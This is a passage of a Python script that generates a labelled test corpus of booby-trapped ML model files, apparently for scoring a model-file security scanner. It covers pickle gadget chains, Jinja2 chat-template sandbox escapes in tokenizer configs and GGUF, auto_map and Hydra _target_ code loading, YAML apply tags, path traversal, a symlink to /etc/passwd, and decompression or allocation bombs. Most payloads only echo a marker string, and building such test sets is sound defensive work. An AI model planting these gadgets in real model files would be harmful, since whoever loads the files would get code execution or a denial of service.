write("h_onnx_pyop_contrib.onnx", onnx_model([node("X", "Y", "PyOp", "ai.onnx.contrib", [attr_s("script", "import os; os.system('echo mlsec-blind4')")])],
                                             [fld(1, 2, b"") + fld(2, 0, 17), s(1, "ai.onnx.contrib") + fld(2, 0, 1)]),
      "H ONNX", "custom domain ai.onnx.contrib PyOp with a script attribute (scope: needs onnxruntime-extensions)")
write("h_onnx_custom_domain_library.onnx", onnx_model([node("X", "Y", "Evil", "com.blind4.custom", [attr_s("custom_op_library", TMP + ".so")])],
                                                      [fld(2, 0, 17), s(1, "com.blind4.custom") + fld(2, 0, 1)]),
      "H ONNX", "custom-op domain with an attribute naming a shared library (scope)")
tensor = fld(1, 0, 4) + fld(2, 0, 1) + s(8, "W") + s(13, s(1, "location") + s(2, "..\\..\\..\\..\\Windows\\win.ini")) + fld(14, 0, 1)
write("h_onnx_external_backslash_traversal.onnx", onnx_model([node("X", "Y", "Identity")], [fld(2, 0, 17)], ext_init=tensor),
      "H ONNX", "external data location with Windows backslash traversal")

# ------------------------------------------------------------------ I. chat templates
def gguf(kv):
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv.items():
        kb, vb = k.encode(), v.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
    return out


BASE = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
TPL = {
    "x5f_escapes": BASE + "{{ (()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f'))() }}",
    "octal_escapes": BASE + "{{ cycler|attr('\\137\\137init\\137\\137')|attr('\\137\\137globals\\137\\137') }}",
    "named_escapes": BASE + "{{ joiner|attr('\\N{LOW LINE}\\N{LOW LINE}init\\N{LOW LINE}\\N{LOW LINE}') }}",
    "lipsum_globals_os": BASE + "{{ lipsum.__globals__['os'].popen('echo mlsec-blind4').read() }}",
    "namespace_init_globals": BASE + "{% set n = namespace() %}{{ n.__init__.__globals__.__builtins__['__import__']('os').system('echo mlsec-blind4') }}",
    "string_slice_underscore": BASE + "{% set u = (lipsum|string)[18] %}{% set d = u ~ u %}{{ cycler|attr(d ~ 'init' ~ d)|attr(d ~ 'globals' ~ d) }}",
}
for k, v in TPL.items():
    write(f"i_tokenizer_{k}/tokenizer_config.json", json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": v}, indent=1), "I chat template", f"SSTI: {k}")
write("i_gguf_x5f_escapes.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": TPL["x5f_escapes"]}), "I chat template", "GGUF template with \\x5f escapes")
write("i_gguf_string_slice.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": TPL["string_slice_underscore"]}), "I chat template", "GGUF template: underscore sliced from lipsum|string")

# ------------------------------------------------------------------ J. loader configs that import code
MOD = "import os\nos.system('echo mlsec-blind4')\nclass Evil:\n    pass\n"
write("j_tokenizer_auto_map/tokenizer_config.json", json.dumps({"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}),
      "J loader config", "tokenizer_config auto_map (trust_remote_code)")
write("j_tokenizer_auto_map/tokenization_evil.py", MOD, "J loader config", "the module tokenizer auto_map names")
write("j_preprocessor_auto_map/preprocessor_config.json", json.dumps({"image_processor_type": "EvilProcessor", "auto_map": {"AutoImageProcessor": "image_processing_evil.EvilProcessor"}}),
      "J loader config", "preprocessor_config auto_map")
write("j_preprocessor_auto_map/image_processing_evil.py", MOD, "J loader config", "the module it names")
write("j_config_auto_map_other_repo/config.json", json.dumps({"model_type": "evil", "auto_map": {"AutoModel": "mlsec/blind4-code--modeling_evil.EvilModel"}}),
      "J loader config", "config.json auto_map into ANOTHER repo (repo--module.Class), no local .py")
write("j_diffusers_custom_component/model_index.json", json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0",
                                                                   "unet": ["unet_evil", "EvilUNet"], "scheduler": ["diffusers", "PNDMScheduler"]}),
      "J loader config", "diffusers model_index.json component from a local module")
write("j_diffusers_custom_component/unet_evil.py", MOD, "J loader config", "the module it names")
write("j_sentence_transformers_custom/modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.EvilModule"}]),
      "J loader config", "sentence-transformers modules.json type from a local module")
write("j_sentence_transformers_custom/custom_st.py", MOD, "J loader config", "the module it names")
write("j_mlflow_extra_index/MLmodel", "flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
      "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: pickle\nmlflow_version: 2.9.2\n", "J loader config", "MLflow model whose env installs from an attacker index")
write("j_mlflow_extra_index/conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - --extra-index-url http://127.0.0.1:9/simple\n  - mlsec-blind4-backdoor==1.0\nname: env\n",
      "J loader config", "conda.yaml pip --extra-index-url (scope)")

# ------------------------------------------------------------------ K. second round: more innocent-sounding gadgets (after the first scan)
K = [
    ("k_torch_storage_load_from_bytes.pkl", call(g("torch.storage", "_load_from_bytes"), by(nested_zip)), "torch.storage._load_from_bytes(b) is torch.load(BytesIO(b)) of a nested torch zip"),
    ("k_numpy_memmap_truncate.pkl", call(g("numpy", "memmap"), u(TMP + "_mm"), u("uint8"), u("w+"), i1(0), t(i1(16))), "numpy.memmap(path, mode='w+') creates/overwrites a file"),
    ("k_numpy_ctypeslib_load_library.pkl", call(g("numpy.ctypeslib", "load_library"), u("libmlsec_blind4"), u("/tmp")), "numpy.ctypeslib.load_library loads a shared object (runs its constructors)"),
    ("k_ctypes_dlopen.pkl", call(g("_ctypes", "dlopen"), u(TMP + ".so"), i1(2)), "_ctypes.dlopen(path) loads a shared object"),
    ("k_scipy_wavfile_write.pkl", call(g("scipy.io.wavfile", "write"), u(TMP + ".wav"), b"M" + struct.pack("<H", 8000), call(g("numpy", "zeros"), i1(4))), "scipy.io.wavfile.write(path) writes a file"),
    ("k_scipy_fortranfile_w.pkl", call(g("scipy.io", "FortranFile"), u(TMP + ".f"), u("w")), "scipy.io.FortranFile(path, 'w') truncates"),
    ("k_h5py_file_w.pkl", call(g("h5py", "File"), u(TMP + ".h5"), u("w")), "h5py.File(path, 'w') truncates any file"),
    ("k_sklearn_fetch_california.pkl", call(g("sklearn.datasets", "fetch_california_housing"), u(TMP + "_data")), "fetch_california_housing downloads and joblib.loads its cache"),
    ("k_statsmodels_get_rdataset.pkl", call(g("statsmodels.datasets", "get_rdataset"), u("x"), u("mlsec")), "statsmodels get_rdataset fetches"),
    ("k_sympy_autowrap.pkl", call(g("sympy.utilities.autowrap", "autowrap"), call(g("sympy", "Symbol"), u("x"))), "sympy autowrap compiles and imports an extension"),
    ("k_sympy_run_in_subprocess.pkl", call(g("sympy.testing.runtests", "run_in_subprocess_with_hash_randomization"), u("system"), t(u(CMD)), b"}", u("/usr/bin/python3"), u("os"), b"\x88"),
     "sympy runs python -c 'import os; os.system(...)' in a subprocess"),
    ("k_onnx_hub_load.pkl", call(g("onnx.hub", "load"), u("mlsec-blind4")), "onnx.hub.load downloads a model (path traversal CVE class)"),
    ("k_yaml_unsafe_load.pkl", call(g("yaml", "unsafe_load"), u("!!python/object/apply:os.system ['echo mlsec-blind4']")), "yaml.unsafe_load of a python/object/apply document"),
    ("k_yaml_load_unsafe_loader.pkl", call(g("yaml", "load"), u("!!python/object/apply:os.system ['echo mlsec-blind4']"), g("yaml", "UnsafeLoader")), "yaml.load(s, UnsafeLoader)"),
    ("k_jsonpickle_decode.pkl", call(g("jsonpickle", "decode"), u('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo mlsec-blind4"]}]}')), "jsonpickle.decode runs py/reduce"),
    ("k_dill_loads.pkl", call(g("dill", "loads"), by(P(call(g("os", "system"), u(CMD))))), "dill.loads nested"),
    ("k_cloudpickle_loads.pkl", call(g("cloudpickle", "loads"), by(P(call(g("os", "system"), u(CMD))))), "cloudpickle.loads nested"),
    ("k_logging_config_listen.pkl", call(g("threading", "Thread.start"), call(g("logging.config", "listen"), i1(0))), "Thread.start(logging.config.listen(0)): a socket server that accepts logging configs"),
    ("k_logging_config_resolve.pkl", call(call(g("logging.config", "_resolve"), u("os.system")), u(CMD)), "logging.config._resolve(dotted) is a universal importer"),
    ("k_distutils_run_setup.pkl", call(g("distutils.core", "run_setup"), u(TMP + "_setup.py")), "distutils.core.run_setup execs a script"),
    ("k_py_compile_plant.pkl", call(g("py_compile", "compile"), u(TMP + ".py"), u("/tmp/mlsec_blind4_site/sitecustomize.pyc")), "py_compile.compile plants a .pyc anywhere"),
    ("k_xml_sax_parse_url.pkl", call(g("xml.sax", "parse"), u(URL), call(g("xml.sax.handler", "ContentHandler"))), "xml.sax.parse(URL) fetches"),
    ("k_http_client_connect.pkl", call(g("http.client", "HTTPConnection.connect"), call(g("http.client", "HTTPConnection"), u("127.0.0.1"), i1(9))), "unbound HTTPConnection.connect on a rebuilt connection"),
    ("k_poplib_pop3.pkl", call(g("poplib", "POP3"), u("127.0.0.1"), i1(9)), "poplib.POP3 connects"),
    ("k_nntplib_nntp.pkl", call(g("nntplib", "NNTP"), u("127.0.0.1"), i1(9)), "nntplib.NNTP connects"),
    ("k_socket_create_connection.pkl", call(g("socket", "create_connection"), t(u("127.0.0.1"), i1(9))), "socket.create_connection"),
    ("k_posixsubprocess_fork_exec.pkl", call(g("_posixsubprocess", "fork_exec"), lst(by(b"/bin/echo")), t(by(b"/bin/echo")), b"\x88", b")", none, none, b"J\xff\xff\xff\xff" * 6,
                                             b"J\xff\xff\xff\xff" * 2, b"\x89", b"\x89", none, none, none, b"J\xff\xff\xff\xff", none, b"\x89"), "_posixsubprocess.fork_exec (the C primitive under subprocess)"),
    ("k_time_sleep_forever.pkl", call(g("time", "sleep"), b"J\xff\xff\xff\x7f"), "time.sleep(2**31-1): the loader hangs (DoS)"),
    ("k_faulthandler_sigsegv.pkl", call(g("faulthandler", "_sigsegv")), "faulthandler._sigsegv() crashes the loader"),
    ("k_sys_exit.pkl", call(g("sys", "exit"), i1(0)), "sys.exit(0) ends the loading process"),
    ("k_memo_callable_reuse.pkl", b"}" + u("k") + g("subprocess", "getoutput") + b"\x94" + b"s0" + b"h\x00" + u(CMD) + b"\x85R", "callable first stored as a dict value (memoized), called later via BINGET"),
    ("k_text_put_get_stack_global.pkl", b"S'os'\np0\n0S'system'\np1\n0g0\ng1\n\x93" + u(CMD) + b"\x85R", "STACK_GLOBAL from protocol-0 PUT/GET memo"),
    ("k_rebuild_from_type_v2.pkl", call(g("torch._tensor", "_rebuild_from_type_v2"), g("subprocess", "getoutput"), g("torch", "Tensor"), t(u(CMD)), b"}"),
     "torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args)"),
    ("k_torch_rebuild_tensor_hooks.pkl", call(g("torch._utils", "_rebuild_tensor_v2"), call(g("torch", "FloatStorage")), i1(0), t(), t(), b"\x89",
                                              call(g("collections", "OrderedDict"), lst(t(i1(0), call(g("os", "system"), u(CMD)))))),
     "the call hides in _rebuild_tensor_v2's backward_hooks OrderedDict"),
]
for name, body, what in K:
    write(name, P(body), "K gadget (round 2)", what)

# ------------------------------------------------------------------ L. second round: parsers of other formats
def gguf_full(kvs, big_endian=False):
    e = ">" if big_endian else "<"
    out = b"GGUF" + struct.pack(e + "IQQ", 3, 0, len(kvs))
    for k, typ, v in kvs:
        kb = k.encode()
        out += struct.pack(e + "Q", len(kb)) + kb + struct.pack(e + "I", typ)
        if typ == 8:
            vb = v.encode(); out += struct.pack(e + "Q", len(vb)) + vb
        elif typ == 9:  # array of strings
            out += struct.pack(e + "IQ", 8, len(v))
            for it in v:
                ib = it.encode(); out += struct.pack(e + "Q", len(ib)) + ib
        elif typ == 4:
            out += struct.pack(e + "I", v)
    return out


SSTI = BASE + "{{ cycler.__init__.__globals__.os.popen('echo mlsec-blind4').read() }}"
write("l_gguf_big_endian.gguf", gguf_full([("general.architecture", 8, "llama"), ("tokenizer.chat_template", 8, SSTI)], big_endian=True), "L parser", "big-endian GGUF v3 with an SSTI template")
write("l_gguf_template_after_token_array.gguf", gguf_full([("general.architecture", 8, "llama"), ("llama.context_length", 4, 4096),
                                                           ("tokenizer.ggml.tokens", 9, ["<s>", "</s>"] + [f"tok{i}" for i in range(300)]), ("tokenizer.chat_template", 8, SSTI)]),
      "L parser", "GGUF whose template follows a 302-string token array")
raw = json.dumps({"chat_template": SSTI})
write("l_tokenizer_json_unicode_escapes/tokenizer_config.json", raw.replace("__", "\\u005f\\u005f"), "L parser", "the template's underscores written as JSON \\u005f escapes")
cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3fake-marshal-mlsec-blind4").decode(), "defaults": None, "closure": None}}}}]}}
write("l_keras_zip64_lambda.keras", zip64_archive([("metadata.json", b'{"keras_version": "3.8.0"}'), ("config.json", json.dumps(cfg).encode())]), "L parser", ".keras as ZIP64 with a Lambda layer")
write("l_keras_deflated_lambda.keras", zbytes([("metadata.json", b'{"keras_version": "3.8.0"}'), ("config.json", json.dumps(cfg).encode())], zipfile.ZIP_DEFLATED), "L parser", "deflated .keras with a Lambda layer")
write("l_yaml_python_apply.yaml", "model: !!python/object/apply:os.system ['echo mlsec-blind4']\n", "L parser", "a YAML config with a python/object/apply tag (yaml.unsafe_load / old full_load)")
write("l_joblib_zlib_named_joblib.joblib", zlib.compress(EVIL), "L parser", "zlib-compressed joblib")

# ------------------------------------------------------------------ M. third round: allowlisted-looking calls used for DoS, and loader formats
import bz2
comp = bz2.BZ2Compressor(9)
chunk = b"\0" * (1 << 20)
bomb = b"".join(comp.compress(chunk) for _ in range(256)) + comp.flush()  # 256 MiB of zeros
M = [
    ("m_codecs_bz2_bomb.pkl", call(g("_codecs", "decode"), by(bomb), u("bz2_codec")), "_codecs.decode(bz2 bomb, 'bz2_codec'): 256 MiB from 200 bytes via the codec numpy pickles use"),
    ("m_codecs_zlib_codec.pkl", call(g("_codecs", "decode"), by(zlib.compress(b"\0" * (1 << 24), 9)), u("zlib_codec")), "_codecs.decode with zlib_codec (decompression through an allow-listed-looking call)"),
    ("m_bytearray_huge.pkl", call(g("builtins", "bytearray"), b"\x8a\x05\x00\x00\x00\x00\x04"), "builtins.bytearray(2**34): 16 GiB allocation at load (DoS)"),
    ("m_reconstruct_huge_shape.pkl", call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(b"\x8a\x05\x00\x00\x00\x00\x04"), by(b"b")), "numpy _reconstruct with a 2**34-element shape (DoS)"),
]
for name, body, what in M:
    write(name, P(body), "M allow-listed-looking DoS", what)

# ONNX external data through a symlink in the model folder (GHSA-style symlink escape)
os.makedirs(os.path.join(OUT, "m_onnx_symlink"), exist_ok=True)
tensor = fld(1, 0, 4) + fld(2, 0, 1) + s(8, "W") + s(13, s(1, "location") + s(2, "weights.bin")) + fld(14, 0, 1)
write("m_onnx_symlink/model.onnx", onnx_model([node("X", "Y", "Identity")], [fld(2, 0, 17)], ext_init=tensor), "M loader format", "external data 'weights.bin' is a symlink to /etc/passwd")
os.symlink("/etc/passwd", os.path.join(OUT, "m_onnx_symlink", "weights.bin"))
# the symlink itself is not a MANIFEST row: the scanner does not follow links; model.onnx is the file to flag
# torch.export .pt2 archive whose constants are a nested torch zip
write("m_export_nested.pt2", zbytes([("archive/version", b"1"), ("archive/models/model.json", b"{}"), ("archive/data/constants/model_constants.pt", nested_zip)]),
      "M loader format", ".pt2 archive holding a nested torch zip that torch.load reads")
# TorchServe .mar: MANIFEST names a handler shipped in the archive
write("m_torchserve.mar", zbytes([("MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {"modelName": "m", "handler": "handler.py", "serializedFile": "model.pt"}}).encode()),
                                  ("handler.py", MOD.encode()), ("model.pt", torch_zip(BENIGN_PKL))]), "M loader format", "TorchServe .mar whose handler.py runs at model load")
# NeMo / Hydra: _target_ is instantiated by hydra.utils.instantiate (CVE-2025-23304 class)
HYD = "model:\n  _target_: os.system\n  _args_: ['echo mlsec-blind4']\n  train_ds:\n    batch_size: 8\n"
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w:") as tf:
    for n, d in (("./model_config.yaml", HYD.encode()), ("./model_weights.ckpt", torch_zip(BENIGN_PKL))):
        ti = tarfile.TarInfo(n); ti.size = len(d); ti.mtime = 0
        tf.addfile(ti, io.BytesIO(d))
write("m_nemo_hydra_target.nemo", tb.getvalue(), "M loader format", ".nemo tar whose model_config.yaml _target_ is os.system (hydra instantiate)")
write("m_hydra_config/config.yaml", "defaults:\n  - _self_\nmodel:\n  _target_: subprocess.getoutput\n  _args_:\n    - echo mlsec-blind4\n", "M loader format", "Hydra config _target_ subprocess.getoutput")
write("m_hydra_config/model_config.yaml", "trainer:\n  callbacks:\n    - _target_: builtins.exec\n      _args_: [\"print('mlsec-blind4')\"]\n", "M loader format", "Hydra nested _target_ builtins.exec")
# skops: schema.json naming a function node
sk = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "__id__": 1, "protocol": 1, "_skops_version": "0.9.0",
      "content": {"module_path": "os", "function": "system"}}
write("m_skops_function_node.skops", zbytes([("schema.json", json.dumps(sk).encode())], zipfile.ZIP_DEFLATED), "M loader format", "skops schema FunctionNode naming os.system (loads when the user trusts it)")

blindgen.write_manifest(OUT, ("file", "class", "what", "expected"), sorted(ROWS))
print(len(ROWS), "files")
